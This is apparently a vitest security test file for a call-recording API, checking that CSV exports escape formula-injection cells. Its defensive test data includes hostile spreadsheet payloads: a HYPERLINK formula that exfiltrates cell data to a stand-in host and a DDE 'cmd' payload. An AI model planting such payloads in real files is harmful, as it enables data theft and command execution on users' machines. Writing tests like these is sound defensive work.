/**
 * Security issue, minor finding: CSV exports were open to formula injection. A caller name from the
 * SRC's metadata or a directory name like `=HYPERLINK("http://evil/?"&A1,"click")` became a live
 * formula when the export was opened in a spreadsheet. Every CSV the API produces is parsed here:
 * no cell may start with `=`, `+`, `-`, `@`, a tab or a carriage return unless it is a plain number,
 * such cells carry a leading `'`, and the directory CSVs import back unchanged.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { csvCell, fromCsvCell } from '../../src/web/csv.ts';
import type { RecordingRow } from '../../src/store/index.ts';
import { buildTestApi, type TestApi } from '../helpers/api.ts';

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+SUM(1+1)', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1)', '\t=1+1', '\r=1+1', '\'=already quoted'];
const DANGEROUS = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?\d+(?:\.\d+)?$/;

let t: TestApi;
let auditorCookie: string;

/** Cells of a CSV text (header included). */
function cells(text: string): string[] {
  const records: string[][] = parse(text, { relax_column_count: true });
  return records.flat();
}

/** The cells a spreadsheet would run as formulas. */
function formulas(text: string): string[] {
  return cells(text).filter((c) => DANGEROUS.test(c) && !PLAIN_NUMBER.test(c));
}

beforeAll(async () => {
  t = await buildTestApi();
  await t.accounts.create({ username: 'alice', displayName: 'Alice', roles: ['auditor'], password: 'auditor-password-1' });
  const r = await t.app.inject({ method: 'POST', url: '/api/session', payload: { username: 'alice', password: 'auditor-password-1' } });
  auditorCookie = String(r.headers['set-cookie']).split(';')[0] ?? '';
  t.repo.startEpoch(1, 'k', 0);
  HOSTILE.forEach((name, i) => {
    const row: RecordingRow = {
      id: `r${i}`, baseName: `20260101-00000${i}-000_+4930123456_+4989765432_r${i}`, dir: '2026/01/01', callId: `-call-${i}@pbx.example`,
      startMs: 1000 * i, endMs: 1000 * i + 500, callerNumber: '+4930123456', callerName: name, calleeNumber: '+4989765432', calleeName: `@callee ${i}`,
      direction: 'in', setting: '=setting', channels: 'stereo', codec: 'PCMA', interrupted: false, files: [], hashFileSha256: 'h',
      signature: `+sig${i}`, chainEpoch: 1, chainSeq: i + 1, previous: '', sealedAtMs: 0,
    };
    t.repo.insertSealed(row);
  });
  const policy = await t.app.inject({
    method: 'PUT', url: '/api/policy', headers: { authorization: `Bearer ${t.token}` },
    payload: {
      users: HOSTILE.map((name, i) => ({ id: `u${i}`, name, extensions: [`30${i}`], directNumbers: ['+4989765401'], mobileNumbers: i === 0 ? ['+491701234567', '+491709999999'] : [] })),
      groups: HOSTILE.map((name, i) => ({ id: `g${i}`, name, numbers: ['+4989765432'], members: [{ userId: `u${i}`, active: i % 2 === 0 }] })),
      settings: [{ id: 'all', name: 'All', scope: { kind: 'all' } }],
    },
  });
  expect(policy.statusCode).toBe(200);
});

afterAll(async () => {
  await t.close();
});

describe('CSV formula injection (security issue, minor finding)', () => {
  it('prefixes formula-like cells with \' and leaves plain numbers alone', () => {
    expect(csvCell('=1+1')).toBe('\'=1+1');
    expect(csvCell('@x')).toBe('\'@x');
    expect(csvCell('\tx')).toBe('\'\tx');
    expect(csvCell('\'=x')).toBe('\'\'=x');
    expect(csvCell('+4930123456')).toBe('+4930123456');
    expect(csvCell('-3.5')).toBe('-3.5');
    expect(csvCell('+4930|+4989')).toBe('\'+4930|+4989');
    expect(csvCell('Alice')).toBe('Alice');
    for (const v of [...HOSTILE, '+49', 'x', '\'', '\'\'=y']) expect(fromCsvCell(csvCell(v))).toBe(v);
  });

  it('escapes every hostile cell of the recordings export', async () => {
    const r = await t.app.inject({ method: 'GET', url: '/api/recordings.csv', headers: { cookie: auditorCookie } });
    expect(r.statusCode).toBe(200);
    expect(formulas(r.body)).toEqual([]);
    const all = cells(r.body);
    expect(all).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"click")');
    expect(all).toContain('\'@callee 0');
    expect(all).toContain('\'=setting');
    expect(all).toContain('\'-call-0@pbx.example');
    expect(all).toContain('+4930123456');
  });

  it('escapes the users and groups exports, which import back unchanged', async () => {
    const auth = { authorization: `Bearer ${t.token}` };
    const before = t.policy.load().policy;
    for (const name of ['users', 'groups']) {
      const r = await t.app.inject({ method: 'GET', url: `/api/${name}.csv`, headers: auth });
      expect(r.statusCode, name).toBe(200);
      expect(formulas(r.body), name).toEqual([]);
      expect(cells(r.body), name).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"click")');
      const back = await t.app.inject({ method: 'PUT', url: `/api/${name}.csv`, headers: { ...auth, 'content-type': 'text/csv' }, payload: r.body });
      expect(back.statusCode, `${name}: ${back.body}`).toBe(200);
    }
    const after = t.policy.load().policy;
    expect(after.users).toEqual(before.users);
    expect(after.groups).toEqual(before.groups);
  });
});
